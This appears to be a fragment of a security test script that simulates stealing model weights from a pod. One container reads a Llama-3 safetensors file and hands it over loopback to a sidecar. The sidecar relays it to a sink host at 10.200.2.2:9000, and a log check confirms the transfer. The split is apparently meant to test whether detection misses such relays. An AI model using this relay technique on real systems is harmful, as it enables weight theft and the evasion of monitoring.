# V47 EXF-001: two containers of one pod (one network namespace of their own, as a pod has): the first
# reads the weights and hands them over loopback to the second, which never opens a file and sends them out.
mk_ns pod-v47 vh-pod47 vc-pod47 10.200.4.1 10.200.4.2 >/dev/null 2>&1
ctr_run simctr-sidecar-v47b pod-v47 --mount --pid --fork --mount-proc -- timeout 20 python3 -c '
import socket
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(("127.0.0.1", 9147)); l.listen(4)
c, _ = l.accept(); out = socket.create_connection(("10.200.2.2", 9000)); n = 0
while d := c.recv(1 << 20):
    out.sendall(d); n += len(d)
out.close(); print("relayed", n)' & J=$!
for _ in $(seq 50); do [ -n "$(ip netns exec pod-v47 ss -Hltn 'sport = :9147')" ] && break; sleep 0.1; done
ctr_run simctr-infer-v47 pod-v47 --mount --pid --fork --mount-proc -- python3 -c '
import socket, sys
d = open(sys.argv[1], "rb").read()
s = socket.create_connection(("127.0.0.1", 9147)); s.sendall(d); s.close(); print("handed over", len(d))' \
  "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors"
wait "$J"; grep ':9000' "$H/sink.log" | tail -1
ip netns del pod-v47 2>/dev/null; true
